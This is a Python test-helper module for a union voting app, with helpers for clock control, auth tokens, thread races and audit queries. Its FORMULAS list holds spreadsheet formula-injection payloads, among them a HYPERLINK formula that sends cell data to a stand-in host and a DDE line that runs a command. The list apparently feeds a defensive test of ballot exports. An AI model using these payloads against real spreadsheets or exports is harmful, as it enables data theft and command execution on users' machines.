"""Helpers shared by the test modules (which never import one another)."""
from __future__ import annotations

import threading
from datetime import timedelta

from sqlalchemy import select

from openbargain.clock import now, set_clock
from openbargain.extensions import db
from openbargain.models import AuditEvent, Bylaws, Chapter, Membership, User
from openbargain.services import referenda
from openbargain.services.errors import DomainError
from tests import factories

PROBLEM = "application/problem+json"


def at(moment) -> None:
    """Moves the app's clock to this moment (the `app` fixture gives it back after each test)."""
    set_clock(lambda: moment)


def membership(user: User, chapter: Chapter | None = None) -> Membership:
    """The user's membership (in `chapter`, when they may belong to several)."""
    query = select(Membership).where(Membership.user_id == user.id)
    if chapter is not None:
        query = query.where(Membership.chapter_id == chapter.id)
    return db.session.scalar(query)


def audit_events(kind: str | None = None) -> list[AuditEvent]:
    """The audit log's events (of one kind), oldest first: what a test asserts was recorded."""
    query = select(AuditEvent).order_by(AuditEvent.id)
    if kind is not None:
        query = query.where(AuditEvent.kind == kind)
    return list(db.session.scalars(query))


def set_bylaws(chapter: Chapter, **values) -> None:
    row = db.session.get(Bylaws, chapter.id)
    for k, v in values.items():
        setattr(row, k, v)
    db.session.commit()


def plan(**changes) -> referenda.Schedule:
    """A yes/no vote opening in two hours and lasting two days, with changes."""
    start = now()
    values = dict(method="yes_no", opens_at=start + timedelta(hours=2), closes_at=start + timedelta(days=2),
                  quorum_percent=20, secret=True, threshold="majority", seats=1)
    values.update(changes)
    return referenda.Schedule(**values)


def tokens(client, user: User, password: str = factories.PASSWORD) -> dict:
    response = client.post("/api/v1/tokens", json={"email": user.email, "password": password})
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def auth(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


def outcome_in_own_context(app, job):
    """Runs `job` in an app context of its own, as a request would: its result, or the refusal it raised."""
    with app.app_context():
        try:
            return job()
        except DomainError as exc:
            return exc
        finally:
            db.session.remove()


def race(app, jobs):
    """Runs each job in its own thread and app context, released together by a barrier."""
    barrier = threading.Barrier(len(jobs))
    outcomes: list[object] = [None] * len(jobs)

    def run(i, job):
        barrier.wait()
        outcomes[i] = outcome_in_own_context(app, job)

    threads = [threading.Thread(target=run, args=(i, job)) for i, job in enumerate(jobs)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    db.session.rollback()  # the test's own session starts afresh, seeing what the threads wrote
    return outcomes


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def formula_vote(world):
    """A certified ranked vote whose option labels read as spreadsheet formulas, its ballots
    published (the bylaws' default would withhold them on a roll this small)."""
    from datetime import timedelta

    from openbargain.clock import set_clock
    from openbargain.services import casting, results
    from openbargain.services.proposals import OptionDraft

    set_bylaws(world.chapter, ranked_ballots_public="always")
    elected = membership(world.elected)
    r = factories.make_open_referendum(world, elected, kind="ranked", title="Labels",
                                       options=[OptionDraft(label, "Do it.") for label in FORMULAS])
    casting.cast_ballot(world.member, world.chapter, r.id, {"ranking": FORMULAS})
    closed = r.closes_at + timedelta(minutes=1)
    set_clock(lambda: closed)
    results.certify_closed()
    return r
